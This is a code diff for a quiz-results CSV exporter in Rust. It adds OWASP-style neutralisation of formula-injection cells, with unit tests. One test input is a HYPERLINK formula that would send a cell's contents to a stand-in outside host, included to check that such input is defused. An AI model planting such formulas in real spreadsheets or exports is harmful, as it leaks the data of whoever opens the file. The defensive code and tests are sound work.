@@ -5,7 +5,8 @@
 //! given, the category of each item, the number with its unit), not as indices, so a teacher
 //! can read a spreadsheet without the quiz files. Why CSV by hand rather than the `csv` crate:
 //! the quoting rule (RFC 4180: quote a field holding a comma, quote, CR or LF, and double the
-//! quotes) is five lines, and the export never reads CSV.
+//! quotes) is five lines, and the export never reads CSV. Cells that a spreadsheet would run as a
+//! formula are neutralised as OWASP advises (see [`csv_field`]).
 use std::io::{self, Write};
 use std::process::ExitCode;
 
@@ -290,16 +291,37 @@ pub fn to_csv(rows: &[Row]) -> String {
     out
 }
 
-/// Quotes a field when it must be (RFC 4180), doubling any quote inside. Leading or trailing
-/// spaces are quoted too, since some spreadsheets trim them otherwise.
+/// One text cell of the export: neutralised against formula injection, then quoted when it must
+/// be (RFC 4180), doubling any quote inside. Leading or trailing spaces are quoted too, since some
+/// spreadsheets trim them otherwise.
+///
+/// Every text cell goes through here (names, ids, answers all come from people or content files),
+/// so a quiz choice `=HYPERLINK(...)` or a learner named `=1+2` arrives in the spreadsheet as text.
 pub fn csv_field(s: &str) -> String {
+    let s = neutralise_formula(s);
     let needs = s.contains([',', '"', '\n', '\r'])
         || s.starts_with(char::is_whitespace)
         || s.ends_with(char::is_whitespace);
     if needs {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s.into_owned()
+    }
+}
+
+/// OWASP's advice against CSV injection: a cell that a spreadsheet would read as a formula (it
+/// starts with `=`, `+`, `-` or `@`, or with a tab or carriage return, which some spreadsheets
+/// skip before looking) gets a leading `'`, which spreadsheets take as "this is text" and do not
+/// show. Leading spaces are looked through too, since some importers trim them. Only CSV needs
+/// this: the JSON export stays exactly what was answered.
+fn neutralise_formula(s: &str) -> std::borrow::Cow<'_, str> {
+    let risky = s.starts_with(['\t', '\r'])
+        || s.trim_start_matches(' ')
+            .starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
     }
 }
 
@@ -348,6 +370,24 @@ mod tests {
         assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
         assert_eq!(csv_field(" pad"), "\" pad\"");
         assert_eq!(csv_field(""), "");
+    }
+
+    #[test]
+    fn csv_cells_that_look_like_formulas_are_text() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"x\")"),
+            "\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1,\"\"x\"\")\""
+        );
+        assert_eq!(csv_field("=1+2"), "'=1+2");
+        assert_eq!(csv_field("+1"), "'+1");
+        assert_eq!(csv_field("-2+3"), "'-2+3");
+        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_field("\t=1"), "'\t=1");
+        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
+        assert_eq!(csv_field("  =1"), "'  =1");
+        // Inside a cell they are harmless.
+        assert_eq!(csv_field("a=b"), "a=b");
+        assert_eq!(csv_field("1-2"), "1-2");
     }
 
     #[test]
